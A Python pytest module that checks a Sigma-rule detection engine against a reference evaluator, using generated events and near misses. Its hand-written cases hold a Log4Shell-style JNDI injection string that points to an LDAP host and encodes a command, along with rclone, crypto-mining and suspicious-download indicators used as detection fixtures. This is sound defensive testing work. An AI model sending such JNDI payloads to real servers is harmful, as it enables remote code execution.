"""Conformance: every shared Sigma rule, on events built from its own detection.

For each rule, a generator reads the (pipeline-processed) detection and builds events
meant to match it — one per way its condition can be satisfied, with letters' case
flipped where Sigma says case does not matter — and near misses: the same events
with one needle broken. The expected verdict of every event comes from a small
reference evaluator written here in plain Python, one event at a time, straight from
the specification (no Polars, no shared code with the engine). The test asserts that

* every rule that can match at all gets generated events of both verdicts (so the
  cases are not vacuous), and
* Bastion's verdict equals the reference verdict on every generated event.
"""

from __future__ import annotations

import ipaddress
import itertools
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from sigma.conditions import (
    ConditionAND,
    ConditionIdentifier,
    ConditionNOT,
    ConditionSelector,
)
from sigma.rule import SigmaDetection, SigmaDetectionItem, SigmaRule
from sigma.types import (
    SigmaCasedString,
    SigmaCIDRExpression,
    SigmaExpansion,
    SigmaNull,
    SigmaNumber,
    SigmaRegularExpression,
    SigmaRegularExpressionFlag,
    SigmaString,
    SpecialChars,
)

from bastion.core.events import ARCHIVE_SCHEMA
from bastion.detect import RuleSet, load_ruleset
from bastion.detect.loader import _pipeline
from bastion.detect.logsources import COLUMNS

Event = dict[str, Any]

# ---------------------------------------------------------------- reference evaluator
# A field an event lacks (or the schema lacks) is null: "field: null" is true of it,
# every value test false. Uncased text compares after str.casefold on both sides.


def _and(values: list[bool]) -> bool:
    return all(values)


def _or(values: list[bool]) -> bool:
    return any(values)


def _not(value: bool) -> bool:
    return not value


def _cased(value: SigmaString) -> bool:
    return isinstance(value, SigmaCasedString)


def _glob(value: SigmaString) -> re.Pattern[str]:
    pieces = []
    for part in value.s:
        if part is SpecialChars.WILDCARD_MULTI:
            pieces.append(".*")
        elif part is SpecialChars.WILDCARD_SINGLE:
            pieces.append(".")
        else:
            text = str(part)
            pieces.append(re.escape(text if _cased(value) else text.casefold()))
    return re.compile("".join(pieces), re.DOTALL)


def _text(value: SigmaString, actual: object) -> str:
    return str(actual) if _cased(value) else str(actual).casefold()


def _as_number(actual: object) -> float | None:
    try:
        return float(str(actual).strip())
    except ValueError:
        return None


def ref_value(event: Event, name: str, value: Any) -> bool:
    if isinstance(value, SigmaExpansion):
        return _or([ref_value(event, name, v) for v in value.values])
    actual = event.get(name)
    if isinstance(value, SigmaNull):
        return actual is None
    if actual is None:
        return False
    if isinstance(value, SigmaCIDRExpression):
        try:
            return ipaddress.ip_address(str(actual)) in value.network
        except ValueError:
            return False
    if isinstance(value, SigmaRegularExpression):
        flags = 0
        for flag, bit in (
            (SigmaRegularExpressionFlag.IGNORECASE, re.IGNORECASE),
            (SigmaRegularExpressionFlag.MULTILINE, re.MULTILINE),
            (SigmaRegularExpressionFlag.DOTALL, re.DOTALL),
        ):
            if flag in value.flags:
                flags |= bit
        return re.search(value.regexp.original, str(actual), flags) is not None
    if isinstance(value, SigmaNumber):
        return _as_number(actual) == float(value.number)
    if isinstance(value, SigmaString):
        if isinstance(actual, int) and not value.contains_special():
            return str(actual) == value.to_plain()
        return _glob(value).fullmatch(_text(value, actual)) is not None
    raise AssertionError(f"the reference evaluator does not know {type(value).__name__}")


def ref_item(event: Event, item: SigmaDetectionItem | SigmaDetection) -> bool:
    if isinstance(item, SigmaDetection):
        results = [ref_item(event, i) for i in item.detection_items]
        return _and(results) if item.item_linking is ConditionAND else _or(results)
    if item.field is None:
        raw = event.get("event.original") or ""
        results = []
        for v in item.value:
            assert isinstance(v, SigmaString)
            results.append(_glob(v).search(_text(v, raw)) is not None)
    else:
        values = item.value or [SigmaNull()]
        results = [ref_value(event, item.field, v) for v in values]
    result = _and(results) if item.value_linking is ConditionAND else _or(results)
    return _not(result) if item.negated else result


def ref_condition(event: Event, rule: SigmaRule, node: Any) -> bool:
    detections = rule.detection.detections
    if isinstance(node, ConditionIdentifier):
        return ref_item(event, detections[node.identifier])
    if isinstance(node, ConditionSelector):
        ids = node.resolve_referenced_detections(rule.detection)
        results = [ref_item(event, detections[i.identifier]) for i in ids]
        return _and(results) if node.cond_class is ConditionAND else _or(results)
    if isinstance(node, ConditionNOT):
        return _not(ref_condition(event, rule, node.args[0]))
    results = [ref_condition(event, rule, a) for a in node.args]
    return _and(results) if isinstance(node, ConditionAND) else _or(results)


def reference(event: Event, rule: SigmaRule) -> bool:
    trees = [c.parse(postprocess=False) for c in rule.detection.parsed_condition]
    return _or([ref_condition(event, rule, t) for t in trees])


# ---------------------------------------------------------------- event generator


def _flip(text: str) -> str:
    return "".join(c.swapcase() if c.isascii() else c for c in text)


def _witness_string(value: SigmaString) -> str:
    out = []
    for part in value.s:
        if part is SpecialChars.WILDCARD_MULTI:
            out.append("Zz")
        elif part is SpecialChars.WILDCARD_SINGLE:
            out.append("q")
        else:
            text = str(part)
            out.append(text if isinstance(value, SigmaCasedString) else _flip(text))
    return "".join(out)


def _witness_value(name: str, value: Any) -> Any:
    """A value of field ``name`` that satisfies ``value`` (None: cannot build one)."""
    if isinstance(value, SigmaExpansion):
        return _witness_value(name, value.values[0])
    if isinstance(value, SigmaCIDRExpression):
        return str(value.network.network_address + 1)
    if isinstance(value, SigmaNull):
        return None
    dtype = COLUMNS.get(name)
    if isinstance(value, SigmaNumber):
        return int(value.number) if dtype != pl.String else str(value.number)
    if isinstance(value, SigmaString):
        if dtype is not None and dtype != pl.String:
            return int(value.to_plain()) if value.to_plain().isdigit() else None
        return _witness_string(value)
    return None  # regular expressions: covered by hand-written cases


def _witnesses(item: SigmaDetectionItem | SigmaDetection) -> Iterator[Event]:
    """Events (partial) that satisfy one detection or item, one per alternative."""
    if isinstance(item, SigmaDetection):
        parts = [list(_witnesses(i)) for i in item.detection_items]
        if item.item_linking is ConditionAND:
            for combo in itertools.islice(itertools.product(*parts), 8):
                merged = _merge(list(combo))
                if merged is not None:
                    yield merged
        else:
            for alternatives in parts:
                yield from alternatives
        return
    if item.negated:
        return
    name = item.field or "event.original"
    if item.field is not None and name not in COLUMNS:
        return
    values = item.value or [SigmaNull()]
    if item.value_linking is ConditionAND:
        texts = [_witness_value(name, v) for v in values]
        if all(isinstance(t, str) for t in texts):
            yield {name: "".join(texts)}
        return
    for v in values:
        w = _witness_value(name, v)
        if w is not None or isinstance(v, SigmaNull):
            yield {name: (f"x {w} y" if item.field is None else w)}


def _merge(parts: list[Event]) -> Event | None:
    merged: Event = {}
    for part in parts:
        for k, v in part.items():
            if k in merged and merged[k] != v:
                if isinstance(v, str) and isinstance(merged[k], str):
                    merged[k] = merged[k] + v  # both contained: may still satisfy contains
                else:
                    return None
            else:
                merged[k] = v
    return merged


def _positive_sets(rule: SigmaRule, node: Any, negated: bool = False) -> list[list[str]]:
    """Detection names whose witnesses, together, may satisfy the condition (a DNF sketch)."""
    if isinstance(node, ConditionIdentifier):
        return [[]] if negated else [[node.identifier]]
    if isinstance(node, ConditionSelector):
        ids = [i.identifier for i in node.resolve_referenced_detections(rule.detection)]
        if negated:
            return [[]]
        return [ids] if node.cond_class is ConditionAND else [[i] for i in ids]
    if isinstance(node, ConditionNOT):
        return _positive_sets(rule, node.args[0], not negated)
    children = [_positive_sets(rule, a, negated) for a in node.args]
    conjunctive = isinstance(node, ConditionAND) != negated
    if conjunctive:
        return [
            [name for part in combo for name in part]
            for combo in itertools.islice(itertools.product(*children), 16)
        ]
    return [s for c in children for s in c]


def _breaks(value: Any) -> list[Any]:
    """Near values: one character replaced at a few places, and a value of a different kind."""
    if isinstance(value, str) and value:
        spots = sorted({len(value) // 4, len(value) // 2, (3 * len(value)) // 4})
        return [value[:i] + "\u00a7" + value[i + 1 :] for i in spots] + ["\u00a7"]
    if isinstance(value, int):
        return [value + 1]
    return ["x"]


def generate(rule: SigmaRule) -> tuple[list[Event], list[Event]]:
    """Matching candidates and near misses for one processed rule."""
    detections = rule.detection.detections
    witnesses = {name: list(_witnesses(d)) for name, d in detections.items()}
    candidates: list[Event] = []
    for condition in rule.detection.parsed_condition:
        tree = condition.parse(postprocess=False)
        for names in _positive_sets(rule, tree):
            for combo in itertools.islice(
                itertools.product(*(witnesses.get(n) or [{}] for n in names)), 6
            ):
                merged = _merge(list(combo))
                if merged is not None:
                    candidates.append(merged)
        for name in detections:  # each selection alone, too (matches or not)
            candidates.extend(witnesses[name][:3])
    near = [{**e, k: b} for e in candidates for k, v in e.items() for b in _breaks(v)]
    return [_materialise(e) for e in candidates], [_materialise(e) for e in near]


def _materialise(event: Event) -> Event:
    """Write derived fields into the columns they come from, then derive them back."""
    event = dict(event)
    if isinstance(event.get("url.extension"), str):
        event["url.path"] = f"{event.get('url.path') or '/f'}.{event['url.extension']}"
    if isinstance(event.get("url.query"), str):
        event["url.full"] = f"{event.get('url.full') or 'http://h/p'}?{event['url.query']}"
    full, path = event.get("url.full"), event.get("url.path")
    event["url.query"] = full.split("?", 1)[1] if isinstance(full, str) and "?" in full else None
    ext = re.search(r"\.([^./]*)$", path) if isinstance(path, str) else None
    event["url.extension"] = ext.group(1) if ext else None
    return event


# ---------------------------------------------------------------- the test


def _frame(rows: list[Event], dataset: str) -> pl.DataFrame:
    data = {
        name: pl.Series(name, [r.get(name) for r in rows], dtype=dtype, strict=False)
        for name, dtype in ARCHIVE_SCHEMA.items()
    }
    data["event.dataset"] = pl.Series([dataset] * len(rows), dtype=pl.String)
    return pl.DataFrame(data)


def _processed(path: str, rule_id: str) -> SigmaRule:
    rule = SigmaRule.from_yaml(Path(path).read_text(encoding="utf-8"))
    assert str(rule.id) == rule_id
    _pipeline({}).apply(rule)
    return rule


def _rules(shared_data: Path) -> RuleSet:
    sigma = shared_data / "sigma"
    return load_ruleset([sigma / "rules", sigma / "rules-threat-hunting"])


def test_every_shared_rule_agrees_with_the_reference(shared_data: Path) -> None:
    rules = _rules(shared_data)
    never_matchable = []
    checked = 0
    for rule in rules.rules:
        assert rule.path is not None
        sigma = _processed(rule.path, rule.id)
        matching, near = generate(sigma)
        events = matching + near
        assert events, f"{rule.path}: the generator built no event"
        dataset = rule.datasets[0]
        expected = [reference(e, sigma) for e in events]
        single = RuleSet([rule])
        hits = single.evaluate(_frame(events, dataset)).get_column("row").to_list()
        got = [i in set(hits) for i in range(len(events))]
        mismatches = [(events[i], expected[i]) for i in range(len(events)) if got[i] != expected[i]]
        assert not mismatches, f"{rule.path}: {mismatches[:3]}"
        checked += len(events)
        if not any(expected):
            never_matchable.append(rule)
            continue
        # both verdicts occur among the rule's events, so neither side is vacuous
        assert not all(expected), f"{rule.path}: every generated event matches"
    # A rule may be unmatchable only when it needs a field Bastion's schema lacks (absent,
    # so null) or a regular expression the generator does not invert.
    for rule in never_matchable:
        assert any("has no column" in w for w in rule.warnings) or _uses_regex(rule), rule.path
    assert len(never_matchable) < len(rules.rules) // 3
    assert checked > 1000


def _uses_regex(rule: Any) -> bool:
    return "|re" in Path(rule.path).read_text(encoding="utf-8")


def test_all_rules_together_find_what_each_finds_alone(shared_data: Path) -> None:
    """The shared needle pass and routing lose nothing: the whole set's hits equal each rule's."""
    rules = _rules(shared_data)
    frames = []
    for rule in rules.rules:
        assert rule.path is not None
        matching, near = generate(_processed(rule.path, rule.id))
        frames.append(_frame((matching + near)[:40], rule.datasets[0]))
    batch = pl.concat(frames)
    together = set(rules.evaluate(batch).select("rule.id", "row").iter_rows())
    alone = {
        (rule.id, row)
        for rule in rules.rules
        for row in RuleSet([rule]).evaluate(batch).get_column("row").to_list()
    }
    assert together == alone
    assert len(together) > 200


# Hand-written cases: (rule file, dataset, events that match, near misses that do not).
HAND_CASES = [
    (
        "web/webserver_generic/web_jndi_exploit.yml",
        "nginx.access",
        [{"event.original": 'GET /x/${jndi:ldap://e/Basic/Command/Base64/aWQ=} HTTP/1.1" 404'}],
        [{"event.original": 'GET /x/${jndi:ldap://e/Basic/Command/Base32/aWQ=} HTTP/1.1" 404'}],
    ),
    (
        "web/proxy_generic/proxy_ua_rclone.yml",
        "squid.access",
        [{"user_agent.original": "rclone/v1.66.0"}, {"user_agent.original": "RCLONE/V1"}],
        [{"user_agent.original": "my rclone/v1.66.0"}, {"user_agent.original": "rclone/1"}],
    ),
    (
        "network/dns/net_dns_pua_cryptocoin_mining_xmr.yml",
        "zeek.dns",
        [{"dns.question.name": "eu.pool.minexmr.com"}, {"dns.question.name": "XMRPOOL.EU"}],
        [{"dns.question.name": "pool.minexmr.co"}, {"dns.question.name": "minexmr.com"}],
    ),
    (
        "network/zeek/zeek_http_webdav_put_request.yml",
        "zeek.http",
        [
            {
                "user_agent.original": "Microsoft-WebDAV-MiniRedir/10.0",
                "http.request.method": "PUT",
                "destination.ip": "203.0.113.7",
            }
        ],
        [
            {
                "user_agent.original": "Microsoft-WebDAV-MiniRedir/10.0",
                "http.request.method": "PUT",
                "destination.ip": "10.1.2.3",
            },
            {
                "user_agent.original": "Microsoft-WebDAV-MiniRedir/10.0",
                "http.request.method": "GET",
                "destination.ip": "203.0.113.7",
            },
        ],
    ),
    (
        "web/proxy_generic/proxy_download_susp_tlds_blacklist.yml",
        "squid.access",
        [{"url.path": "/payload.EXE", "url.domain": "cdn.example.country"}],
        [
            {"url.path": "/payload.EXE", "url.domain": "cdn.example.com"},
            {"url.path": "/payload.exe.txt", "url.domain": "cdn.example.country"},
        ],
    ),
]


@pytest.mark.parametrize(
    ("path", "dataset", "hits", "misses"), HAND_CASES, ids=[Path(c[0]).stem for c in HAND_CASES]
)
def test_hand_written_cases(
    shared_data: Path, path: str, dataset: str, hits: list[Event], misses: list[Event]
) -> None:
    rules = load_ruleset([shared_data / "sigma" / "rules" / path])
    found = rules.evaluate(_frame(hits + misses, dataset)).get_column("row").to_list()
    assert found == list(range(len(hits)))
